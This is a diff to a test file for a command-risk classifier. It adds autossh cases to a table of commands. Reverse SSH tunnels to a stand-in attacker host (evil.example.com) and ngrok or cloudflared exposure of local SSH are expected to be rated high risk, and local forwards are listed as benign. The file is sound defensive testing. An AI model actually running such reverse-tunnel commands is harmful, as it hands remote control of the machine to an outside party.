@@ -18,6 +18,9 @@ describe('handing control of this machine to another', () => {
     ['ssh -fNR 2222:localhost:22 attacker@evil.example.com', 'high'],
     ['ssh -R 8080:localhost:22 attacker@evil.example.com', 'high'],
     ['ssh -R 0.0.0.0:15432:localhost:5432 jump@example.com', 'high'],
+    // autossh is ssh kept alive: its own -M port aside, the same words.
+    ['autossh -M 0 -f -N -R 0.0.0.0:15432:localhost:5432 ops@jump.example.com', 'high'],
+    ['autossh -M20000 -fNR 2222:localhost:22 attacker@evil.example.com', 'high'],
     ['ngrok tcp 22', 'high'],
     ['ngrok tcp 5432', 'high'],
     ['cloudflared tunnel --url ssh://localhost:22', 'high'],
@@ -34,6 +37,7 @@ describe('handing control of this machine to another', () => {
     'ngrok http 3000',
     'cloudflared tunnel --url http://localhost:3000',
     'ssh -R 9000:localhost:3000 dev@box.example.com',
+    'autossh -M 0 -f -N -L 5433:db.prod.internal:5432 bastion.prod',
     'ssh -L 5432:db.internal:5432 bastion.example.com',
     'ssh -D 1080 bastion.example.com',
     'nc -zv db.internal 5432',
